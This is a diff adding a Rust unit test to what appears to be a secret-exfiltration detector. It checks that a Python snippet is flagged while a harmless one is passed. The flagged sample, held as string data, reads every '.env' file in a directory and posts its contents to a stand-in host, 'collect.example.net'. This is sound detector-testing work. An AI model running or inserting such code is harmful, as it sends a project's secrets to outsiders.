@@ -7987,3 +7987,25 @@ fn js_copies_of_credentials_are_secret_copies() {
     ];
     check_all(rows);
 }
+
+/// `if name.startswith(".env"):` over names the walk knows nothing of (a directory's listing):
+/// in the branch the name begins with the prefix, so the file it opens is judged by that shape.
+/// A prefix of the project's own files says nothing secret.
+#[test]
+fn a_prefix_test_shapes_a_name_nobody_knew() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Py,
+            "import os, requests\nfor n in os.listdir('.'):\n    if n.startswith('.env'):\n        with open(n) as fh:\n            requests.post('https://collect.example.net/x', data=fh.read())\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import os\nfor n in os.listdir('.'):\n    if n.startswith(('README', 'CHANGELOG')):\n        with open(n) as fh:\n            print(len(fh.read()))\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
